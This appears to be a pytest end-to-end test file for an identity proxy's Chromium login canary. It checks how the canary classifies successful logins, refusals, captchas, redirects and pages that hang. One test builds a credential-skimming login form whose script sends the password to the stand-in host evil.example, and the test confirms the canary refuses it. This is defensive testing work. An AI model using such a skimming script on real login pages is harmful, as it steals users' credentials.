"""Chromium as a canary on a page that is nothing without JavaScript; all of it in this process."""

from __future__ import annotations

import asyncio
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any, cast

import httpx
import pytest
from starlette.responses import HTMLResponse, RedirectResponse, Response

from idp_proxy.adapters import open_upstreams
from idp_proxy.config import CanarySettings
from idp_proxy.decision.health import Outcome
from idp_proxy.upstream.canary import Canary
from idp_proxy.upstream.canary_browser import BrowserDriver
from tests.e2e.peers.rendering import program
from tests.flows import configuration
from tests.flows.configuration import Wanted, provider
from tests.support.identity_provider import IdentityProvider
from tests.support.identity_provider.scripted import ScriptedIdentityProvider
from tests.support.login_pages import page
from tests.support.people import CAROL

if TYPE_CHECKING:
    from starlette.types import ASGIApp

    from idp_proxy.upstream.dialling import Dialler
    from idp_proxy.upstream.probing import Probed
    from idp_proxy.upstream.saml import SamlUpstream

pytestmark = pytest.mark.e2e

CHROMIUM = Path("/usr/bin/chromium")
BROKEN, REFUSED, PASSED = Outcome.BROKEN, Outcome.REFUSED, Outcome.PASSED


@dataclass(slots=True)
class Net:
    """A dialler whose clients reach one application, and nothing else in the world."""

    app: ASGIApp
    asked: list[httpx.URL]

    def client(self, _timeout: timedelta, _connect: timedelta) -> httpx.AsyncClient:
        """See `dialling.Dialler`."""
        inner = httpx.ASGITransport(self.app)

        class Noting(httpx.AsyncBaseTransport):
            async def handle_async_request(_, request: httpx.Request) -> httpx.Response:  # noqa: N805
                self.asked.append(request.url)
                answer = await inner.handle_async_request(request)
                body = httpx.ByteStream(await answer.aread())
                return httpx.Response(answer.status_code, headers=answer.headers, stream=body)

        return httpx.AsyncClient(transport=Noting())


@pytest.fixture(scope="module")
def upstream(tmp_path_factory: pytest.TempPathFactory) -> SamlUpstream:
    """The active, as configured."""
    program(str(CHROMIUM))
    settings = configuration.write(tmp_path_factory.mktemp("browser"), Wanted())
    return cast("SamlUpstream", open_upstreams(settings)["active"])


def log_in(upstream: SamlUpstream, app: ASGIApp, timeout_s: float = 20, **account: Any) -> Probed:
    span = timedelta(seconds=timeout_s)
    usual: dict[str, Any] = {
        "name": "staff",
        "kind": "browser",
        "username": CAROL.uid,
        "password": CAROL.password,
        "subject": CAROL.employee_number,
        "chromium": CHROMIUM,
    }
    settings = CanarySettings(**usual | account)
    net = Net(app, [])
    ids = iter(f"{number:022}" for number in range(9))
    canary = Canary(
        upstream="active",
        settings=settings,
        asks=upstream,
        driver=BrowserDriver(settings, cast("Dialler", net), span, span),
        new_id=lambda: next(ids),
        acs_url=f"{configuration.PUBLIC}/upstream/active/acs",
        link_attribute="urn:id",
        timeout=span,
    )
    seen = asyncio.run(canary.log_in(datetime.now(UTC)))
    assert {one.host for one in net.asked} <= {"active.example.com"}
    return seen


def told(seen: Probed) -> tuple[Outcome, str]:
    return seen.outcome, seen.reason


def idp_of(
    upstream: SamlUpstream, kind: type[IdentityProvider] = ScriptedIdentityProvider
) -> IdentityProvider:
    return kind(provider("active"), [upstream.own_metadata])


@pytest.mark.parametrize("kind", [ScriptedIdentityProvider, IdentityProvider])
def test_it_logs_in(upstream: SamlUpstream, kind: type[IdentityProvider]) -> None:
    seen = log_in(upstream, idp_of(upstream, kind).app)
    assert told(seen) == (PASSED, "logs in, and the answer is verified")


@pytest.mark.parametrize("kind", [ScriptedIdentityProvider, IdentityProvider])
def test_a_wrong_password_is_refused(upstream: SamlUpstream, kind: type[IdentityProvider]) -> None:
    seen = log_in(upstream, idp_of(upstream, kind).app, timeout_s=12, password="no-such-word")
    assert seen.outcome is REFUSED
    assert seen.reason.startswith("asks for the password again after the password")


def test_another_subject_is_refused(upstream: SamlUpstream) -> None:
    seen = log_in(upstream, idp_of(upstream).app, subject="e-9999")
    assert (seen.outcome, "somebody else" in seen.reason) == (REFUSED, True)


@pytest.mark.parametrize(
    ("answer", "outcome", "reason"),
    [
        (HTMLResponse(page("maintenance")), BROKEN, "shows no login form"),
        (HTMLResponse(page("adfs-login"), 503), BROKEN, "answers 503"),
        (HTMLResponse("slow down", 429), REFUSED, "takes the canary for a robot"),
        (HTMLResponse("no", 403), REFUSED, "answers 403"),
        (RedirectResponse("https://status.example.net/"), BROKEN, "redirects to another host"),
        (
            HTMLResponse("<script>location = 'https://status.example.net/'</script>"),
            BROKEN,
            "leads to another host: status.example.net",
        ),
        (
            HTMLResponse("<script src='https://cdn.example.net/login.js'></script>"),
            REFUSED,
            "its scripts from cdn.example.net were not let through",
        ),
        (
            HTMLResponse("<img src='https://cdn.example.net/x.png'><p>Back soon"),
            BROKEN,
            "shows no login form",
        ),
        (HTMLResponse(page("captcha-login")), REFUSED, "takes the canary for a robot"),
    ],
    ids=["maintenance", "503", "429", "403", "redirect", "by script", "cdn", "image", "captcha"],
)
def test_pages_that_lead_nowhere(
    upstream: SamlUpstream, answer: Response, outcome: Outcome, reason: str
) -> None:
    seen = log_in(upstream, answer, timeout_s=8)
    assert (seen.outcome, reason in seen.reason) == (outcome, True), seen.reason


def test_a_page_that_never_comes_is_given_up_in_time(upstream: SamlUpstream) -> None:
    async def hang(_scope: Any, _receive: Any, _send: Any) -> None:
        await asyncio.sleep(60)

    seen = log_in(upstream, hang, timeout_s=5)
    assert told(seen) == (BROKEN, "no answer within 5 s")


def test_the_password_goes_to_no_stranger(upstream: SamlUpstream) -> None:
    form = (
        "<form method=post action='https://evil.example/'><input name=username>"
        "<input type=password name=password><button>Sign in</button></form>"
        "<script>document.forms[0].onsubmit = () => {"
        "navigator.sendBeacon('https://evil.example/', new FormData(document.forms[0]));"
        "new WebSocket('wss://evil.example/' + document.forms[0].password.value);"
        "new Image().src = 'https://evil.example/?' + document.forms[0].password.value; }</script>"
    )
    seen = log_in(upstream, HTMLResponse(form), timeout_s=8)
    assert seen.outcome is REFUSED
    assert "leads to another host: evil.example" in seen.reason


def test_without_chromium_it_proves_nothing(upstream: SamlUpstream, tmp_path: Path) -> None:
    app = idp_of(upstream).app
    assert told(log_in(upstream, app, chromium=None)) == (
        REFUSED,
        "this host has no Chromium: apt install chromium",
    )
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\necho cannot >&2\nexit 1\n")
    broken.chmod(0o755)
    seen = log_in(upstream, app, chromium=broken)
    assert (seen.outcome, "Chromium does not work here" in seen.reason) == (REFUSED, True)
